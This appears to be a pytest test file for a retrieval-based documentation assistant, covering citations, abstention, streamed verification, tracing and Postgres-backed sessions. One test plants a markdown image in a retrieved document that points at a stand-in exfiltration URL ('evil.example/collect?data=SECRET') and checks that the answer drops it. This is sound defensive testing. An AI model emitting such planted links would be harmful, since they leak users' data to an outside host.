"""The assistant's graph with scripted models."""

from __future__ import annotations

import asyncio
from collections.abc import AsyncIterator
from dataclasses import replace
from typing import Any

import psycopg
import pytest

from app.caller import Caller
from app.data.retrieval import Hit
from app.errors import CallFailedError, NotFoundError, RateLimitedError, StoreUnavailableError
from app.observability.tracing import configure_for_tests, shutdown
from app.orchestration.answer import Answer
from app.orchestration.graph import Assistant
from app.orchestration.sessions import Sessions
from app.settings import Settings
from tests.interface.fakes import ScriptedGateway, reply_of

HIT = Hit("chunk-1", "billing/refunds.md", "Refunds", ("Refunds",), "Refunds take 14 days.", 0.1, 1, 1)
GOOD = "Refunds take 14 days [1]. You also get a unicorn."
ADA = Caller(user="ada", session="s")


class Search:
    """Finds the same passages for every question; remembers the questions."""

    def __init__(self, *hits: Hit) -> None:
        self.queries: list[str] = []
        self._hits = list(hits)

    async def __call__(self, question: str, caller: Caller) -> list[Hit]:
        self.queries.append(question)
        return list(self._hits)


@pytest.fixture
async def sessions(database_url: str) -> AsyncIterator[Sessions]:
    opened = Sessions(database_url, wait_s=5.0)
    yield opened
    await opened.close()


@pytest.mark.feature("I5")
async def test_a_question_is_routed_searched_answered_and_verified(settings: Settings) -> None:
    """The answer holds what its sources support; hits, calls and route say how it came about."""
    gateway = ScriptedGateway({"route": "documentation", "answer": GOOD})
    assistant = Assistant(settings, gateway, Search(HIT))

    answer = await assistant.ask("How long do refunds take?", Caller())

    assert answer.text == "Refunds take 14 days [1]."
    assert [citation.document_id for citation in answer.citations] == ["billing/refunds.md"]
    assert (answer.abstained, answer.route, answer.hits) == (False, "documentation", (HIT,))
    assert [task for task, _ in gateway.calls] == ["route", "answer"]
    assert gateway.calls[1][1] == {
        "question": "How long do refunds take?",
        "context": "[1] Refunds\nRefunds take 14 days.",
        "abstention": settings.assistant.abstention,
    }


@pytest.mark.feature("I3")
@pytest.mark.parametrize("streamed", [False, True])
async def test_a_picture_that_a_document_plants_is_not_passed_on(settings: Settings, streamed: bool) -> None:
    """What loads by itself loses its address; a link that stands in the source stays, another one goes."""
    own, planted = "https://desk.example/refunds", "https://evil.example/collect?data=SECRET"
    source = replace(HIT, text=f"Refunds take 14 days, see {own} ![refunds]({planted})")
    said = f"Refunds take 14 days ![refunds]({planted}) [1]. Refunds take 14 days, see {own} or {planted}x [1]."
    assistant = Assistant(settings, ScriptedGateway({"route": "documentation", "answer": said}), Search(source))

    pieces = []
    if streamed:
        async for item in assistant.stream("How long do refunds take?", Caller()):
            pieces.append(item if isinstance(item, str) else "")
        text = "".join(pieces)
    else:
        text = (await assistant.ask("How long do refunds take?", Caller())).text

    assert "evil.example" not in text
    assert own in text
    assert "Refunds take 14 days" in text


@pytest.mark.feature("I5")
@pytest.mark.parametrize(
    ("replies", "hits", "calls"),
    [
        ({"route": "other"}, [HIT], ["route"]),
        ({"route": "documentation"}, [], ["route"]),
        ({"route": "documentation", "answer": "There is a unicorn [1]."}, [HIT], ["route", "answer"]),
        (
            {"route": "documentation", "answer": "I could not find this in the documentation."},
            [HIT],
            ["route", "answer"],
        ),
    ],
    ids=["other matter", "nothing found", "nothing supported", "model abstains"],
)
@pytest.mark.parametrize("streamed", [False, True], ids=["whole", "stream"])
async def test_what_the_documents_do_not_tell_is_not_told(
    settings: Settings, replies: dict[str, Any], hits: list[Hit], calls: list[str], streamed: bool
) -> None:
    """The fixed abstention, no citations, and no call that cannot help."""
    gateway = ScriptedGateway(replies)
    assistant = Assistant(settings, gateway, Search(*hits))

    pieces = [piece async for piece in assistant.stream("Is there a unicorn?", Caller())] if streamed else []
    answer = pieces.pop() if streamed else await assistant.ask("Is there a unicorn?", Caller())

    assert isinstance(answer, Answer)
    assert (answer.text, answer.citations, answer.abstained) == (settings.assistant.abstention, (), True)
    assert pieces == ([settings.assistant.abstention] if streamed else [])
    assert [task for task, _ in gateway.calls] == calls


@pytest.mark.feature("I5")
async def test_a_stream_shows_verified_sentences_only(settings: Settings) -> None:
    """Pieces arrive cut anywhere; what comes out is whole sentences that were checked, then the answer."""
    text = "There is a unicorn. Refunds take 14 days [1]. Refunds take 30 days [1]. So refunds take 14 days [1]."
    assistant = Assistant(settings, ScriptedGateway({"route": "documentation", "answer": text}), Search(HIT))

    *pieces, answer = [piece async for piece in assistant.stream("How long?", Caller())]

    assert pieces == ["Refunds take 14 days [1]. ", "So refunds take 14 days [1]."]
    assert isinstance(answer, Answer)
    assert answer.text == "".join(str(piece) for piece in pieces)


async def test_a_prepared_text_is_passed_on_as_degraded(settings: Settings) -> None:
    """When no model answers, the route's prepared text is said as it is, marked, and not verified away."""
    prepared = reply_of("I cannot answer right now.", deployment="fallback_text")
    assistant = Assistant(settings, ScriptedGateway({"route": "documentation", "answer": prepared}), Search(HIT))

    answer = await assistant.ask("How long?", Caller())
    *pieces, streamed = [piece async for piece in assistant.stream("How long?", Caller())]

    assert (answer.text, answer.abstained, answer.degraded) == ("I cannot answer right now.", True, True)
    assert pieces == ["I cannot answer right now."]
    assert isinstance(streamed, Answer)
    assert streamed.degraded


async def test_without_a_route_the_documentation_is_searched(settings: Settings) -> None:
    """Routing saves work; when it fails the work is done."""
    gateway = ScriptedGateway({"route": CallFailedError("every model failed", 2), "answer": GOOD})

    answer = await Assistant(settings, gateway, Search(HIT)).ask("How long do refunds take?", Caller())

    assert answer.text == "Refunds take 14 days [1]."


async def test_a_failing_answer_is_raised_from_stream_and_whole(settings: Settings) -> None:
    """Nothing is made up when every model fails and no text is prepared."""
    gateway = ScriptedGateway({"route": "documentation", "answer": CallFailedError("every model failed", 2)})
    assistant = Assistant(settings, gateway, Search(HIT))

    with pytest.raises(CallFailedError):
        await assistant.ask("How long?", Caller())
    with pytest.raises(CallFailedError):
        await anext(aiter(assistant.stream("How long?", Caller())))


async def test_one_trace_holds_the_whole_run(settings: Settings) -> None:
    """The agent's span is the root, retrieval is inside it, and the answer names the trace."""
    spans = configure_for_tests()
    assistant = Assistant(settings, ScriptedGateway({"route": "documentation", "answer": GOOD}), Search(HIT))

    answer = await assistant.ask("How long?", ADA)

    finished = {span.name: span for span in spans.get_finished_spans()}
    shutdown()
    agent, retrieval = finished["invoke_agent assistant"], finished["retrieval documents"]
    assert f"{agent.context.trace_id:032x}" == answer.trace_id
    assert retrieval.parent is not None
    assert retrieval.parent.span_id == agent.context.span_id


@pytest.mark.feature("I5")
async def test_a_session_is_remembered_in_postgres(settings: Settings, database_url: str) -> None:
    """A follow-up is understood with the question before it, also by another process with the same database."""
    for question in ("How long do refunds take?", "And for annual plans?"):
        search, sessions = Search(HIT), Sessions(database_url)
        gateway = ScriptedGateway({"route": "documentation", "answer": GOOD})
        await Assistant(settings, gateway, search, sessions).ask(question, ADA)
        await sessions.close()

    assert search.queries == ["How long do refunds take? And for annual plans?"]
    with psycopg.connect(database_url) as connection:
        kept = connection.execute("select count(*) from langgraph.checkpoints").fetchone()
    assert kept == (1,)


@pytest.mark.reliability("two runs on one session")
@pytest.mark.feature("I5")
async def test_somebody_elses_session_does_not_exist(settings: Settings, sessions: Sessions) -> None:
    """Another user of the tenant gets a 404; another tenant's session of that name is another session."""
    gateway = ScriptedGateway({"route": "documentation", "answer": GOOD})
    search = Search(HIT)
    assistant = Assistant(settings, gateway, search, sessions)
    await assistant.ask("How long do refunds take?", ADA)

    with pytest.raises(NotFoundError, match="session 's' does not exist"):
        await assistant.ask("And?", Caller(user="eve", session="s"))
    await assistant.ask("And?", Caller(tenant="globex", user="ada", session="s"))

    assert search.queries == ["How long do refunds take?", "And?"]


@pytest.mark.reliability("two runs on one session")
@pytest.mark.feature("I5")
async def test_runs_of_one_session_follow_one_another(settings: Settings, sessions: Sessions) -> None:
    """Twenty at once: none is lost, each sees the ones before it."""
    gateway = ScriptedGateway({"route": "documentation", "answer": GOOD})
    assistant = Assistant(settings, gateway, Search(HIT), sessions)

    await asyncio.gather(*(assistant.ask(f"Question number {number} about invoices?", ADA) for number in range(20)))

    saver = await sessions.saver()
    kept = await saver.aget({"configurable": {"thread_id": "7:default:s"}})
    turns = kept["channel_values"]["turns"]
    assert len({turn["question"] for turn in turns}) == 6


async def test_a_session_that_stays_busy_is_refused(settings: Settings, database_url: str) -> None:
    """The second run waits a while, then is told to come back; the first goes on."""
    sessions = Sessions(database_url, wait_s=0.1)
    async with sessions.held(ADA):
        with pytest.raises(RateLimitedError, match="is answering another question"):
            async with sessions.held(ADA):
                raise AssertionError
    async with sessions.held(ADA) as thread:
        assert thread == "7:default:s"
    await sessions.close()


async def test_a_hold_left_by_a_dead_process_ends(settings: Settings, database_url: str) -> None:
    """Nobody released it; after its time the next run takes the session."""
    dead = Sessions(database_url, hold_s=0.1)
    await dead.held(ADA).__aenter__()
    await dead.close()
    sessions = Sessions(database_url, wait_s=5)

    async with sessions.held(ADA) as thread:
        assert thread == "7:default:s"
    await sessions.close()


async def test_leaving_a_stream_ends_its_run(settings: Settings) -> None:
    """The model's stream is closed when nobody listens any more."""
    ended = asyncio.Event()

    class Endless(ScriptedGateway):
        async def stream(self, *args: Any, **kwargs: Any) -> AsyncIterator[Any]:
            from app.intelligence.messages import Chunk

            try:
                while True:
                    yield Chunk(text="Refunds take 14 days [1]. ")
                    await asyncio.sleep(0.001)
            finally:
                ended.set()

    assistant = Assistant(settings, Endless({"route": "documentation"}), Search(HIT))
    stream: Any = assistant.stream("How long?", Caller())
    first = await anext(stream)

    await stream.aclose()

    assert first == "Refunds take 14 days [1]. "
    await asyncio.wait_for(ended.wait(), 2)


async def test_sessions_are_set_up_once_by_whoever_comes_first(database_url: str) -> None:
    """Several processes starting on a new database at once get in nobody's way."""
    opened = [Sessions(database_url) for _ in range(4)]

    await asyncio.wait_for(asyncio.gather(*(sessions.saver() for sessions in opened)), 30)

    for sessions in opened:
        await sessions.close()


async def test_a_session_without_a_database_is_refused_as_such(settings: Settings) -> None:
    """The client hears that the database is away, not that something is broken."""
    gateway = ScriptedGateway({"route": "documentation", "answer": GOOD})
    sessions = Sessions("postgresql://nobody@127.0.0.1:1/none?connect_timeout=1", connect_timeout_s=0.3)

    with pytest.raises(StoreUnavailableError, match="session 's' cannot be kept"):
        await Assistant(settings, gateway, Search(HIT), sessions).ask("How long?", ADA)
